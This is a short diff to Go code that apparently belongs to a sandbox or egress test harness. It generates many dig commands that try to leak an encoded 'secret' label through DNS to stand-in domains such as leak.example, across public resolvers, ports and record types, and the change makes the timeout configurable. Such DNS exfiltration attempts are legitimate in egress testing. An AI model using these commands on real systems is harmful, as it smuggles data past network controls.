@@ -22,13 +22,13 @@ func resolverAttacks() []attack {
 				}}
 				for _, domain := range []string{"drop.example", "leak.example"} {
 					for _, how := range []string{"", "@8.8.8.8", "@1.1.1.1", "+tcp @8.8.8.8", "@2001:4860:4860::8888", "+tcp @2001:4860:4860::8888", "@" + world.Resolver, "-p 5353 @8.8.8.8", "-p 5353 +notcp +edns=0 @8.8.8.8"} {
-						s.Tries = append(s.Tries, "dig +tries=1 +timeout=1 "+how+" TXT c2VjcmV0."+domain)
+						s.Tries = append(s.Tries, "dig +tries=1 +timeout=${PATIENCE:-1} "+how+" TXT c2VjcmV0."+domain)
 					}
 					for _, kind := range []string{"A", "AAAA", "NULL", "CNAME", "MX", "SRV", "HTTPS", "TYPE65399", "ANY", "-x 198.51.100.77"} {
 						if strings.HasPrefix(kind, "-x") {
 							continue
 						}
-						s.Tries = append(s.Tries, "dig +tries=1 +timeout=1 "+kind+" c2VjcmV0."+domain)
+						s.Tries = append(s.Tries, "dig +tries=1 +timeout=${PATIENCE:-1} "+kind+" c2VjcmV0."+domain)
 					}
 					s.Tries = append(s.Tries, run("dns", "8.8.8.8", "c2VjcmV0."+domain))
 				}
